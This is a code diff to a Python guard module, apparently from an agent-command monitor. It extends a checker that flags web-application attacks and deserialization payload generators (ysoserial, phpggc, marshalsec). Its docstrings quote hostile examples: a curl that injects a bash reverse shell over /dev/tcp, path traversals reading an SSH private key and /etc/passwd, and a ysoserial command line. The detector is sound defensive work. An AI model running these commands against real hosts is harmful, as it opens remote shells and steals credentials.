@@ -21,9 +21,14 @@ purpose does, so each finding is :data:`~agentbus.guards.verdict.SERVICE_ATTACK`
 - an HTTP client whose URL climbs out of the server's web root (``curl --path-as-is
   http://h/../../home/u/.ssh/id_rsa``, ``%2e%2e%2f``): a path traversal, never a page a site serves;
   or that sends a reverse shell in a URL, a form field or a body (``curl h/shell.php --data-urlencode
-  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine; or
+  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine (a web
+  shell's command is also judged as shell code, :mod:`..carriers`: that reverse shell is blocked); or
   that sends code starting a process for a server to run (an Elasticsearch script calling
   ``Runtime.getRuntime().exec``) or sets the command CouchDB runs as a query server;
+- a request whose content makes another host's web application open or run it (:mod:`..web_payloads`):
+  a file inclusion (``?page=php://filter/…``, ``?file=/etc/passwd``), a web shell's command (``?cmd=id``),
+  PHP, template, JNDI, XXE or SQL injections, a file that is code uploaded (``-F f=@shell.php``);
+- a deserialization or JNDI payload generator run (``java -jar ysoserial.jar``, ``phpggc``, ``marshalsec``);
 - database takeover tools (``odat``, ``redis-rogue-server.py``) pointed at another host.
 
 Port scans of a host or a LAN stay discovery (:mod:`.scanning` asks for sweeps of the internet);
@@ -40,6 +45,7 @@ from ..findings import positionals
 from ..findings import static_args as _values
 from ..programs import Invocation
 from ..verdict import SERVICE_ATTACK, Verdict
+from ..web_payloads import attack as web_attack
 from .cracking import nse_scripts
 
 __all__ = ["judge"]
@@ -129,6 +135,12 @@ def judge(invocation: Invocation, home: str) -> Verdict | None:
             _traversal(invocation, values)
             or _injected_shell(invocation, values)
             or _server_code(invocation, values)
+            or _web_attack(invocation, values)
+        )
+    generator = _payload_generator(name, values)
+    if generator is not None:
+        return _verdict(
+            SERVICE_ATTACK, invocation, f"{generator} makes exploit payloads for another host's application"
         )
     if name == "nmap":
         return _nmap_attack(invocation, values)
@@ -250,6 +262,41 @@ def _server_code(invocation: Invocation, values: list[str]) -> Verdict | None:
             why = f"sets a command for CouchDB to run ({value[:80]})"
             return _verdict(SERVICE_ATTACK, invocation, why)
     return None
+
+
+def _web_attack(invocation: Invocation, values: list[str]) -> Verdict | None:
+    """``curl 'http://h/?page=php://filter/…'``, ``curl -A '<?php system(…) ?>' h``, ``curl -F f=@shell.php
+    h/upload.php``: what the request sends makes another host's web application open or run it."""
+    why = web_attack(invocation.name, values)
+    return _verdict(SERVICE_ATTACK, invocation, why) if why else None
+
+
+_PAYLOAD_GENERATORS = lazy_compile(
+    r"^(?:ysoserial[\w.-]*|phpggc|marshalsec[\w.-]*|jndiexploit[\w.-]*|rogue-?jndi[\w.-]*|jndi-injection-exploit[\w.-]*"
+    r"|jndi-exploit-kit[\w.-]*)(?:\.jar|\.exe|\.php)?$",
+    re.IGNORECASE,
+)
+"""Generators of deserialization and JNDI exploit payloads (``ysoserial``, ``phpggc``, ``marshalsec``,
+``JNDIExploit``, ``RogueJndi``): gadget chains that run a command in another host's application."""
+
+
+_GENERATOR_RUNNERS = frozenset({"java", "php"})
+"""What a generator published as a jar or a PHP script is run with."""
+_GENERATORS = frozenset({"phpggc", "ysoserial", "marshalsec"})
+"""The generators installed as programs (Kali's ``phpggc``, wrapper scripts)."""
+
+
+def _payload_generator(name: str, values: list[str]) -> str | None:
+    """``java -jar ysoserial-all.jar CommonsCollections5 CMD``, ``phpggc Laravel/RCE1 system id``: the
+    payload generator run (by name, as a jar or as a PHP script), or None."""
+    if name in _GENERATOR_RUNNERS:
+        name = next((v for v in values if not v.startswith("-")), "").rpartition("/")[2]
+    elif name.startswith("./"):
+        name = name[2:]
+    name = name.rpartition("/")[2]
+    if not _PAYLOAD_GENERATORS.match(name) or _INFO & set(values):
+        return None
+    return name
 
 
 def _zone_transfer(invocation: Invocation, values: list[str]) -> Verdict | None:
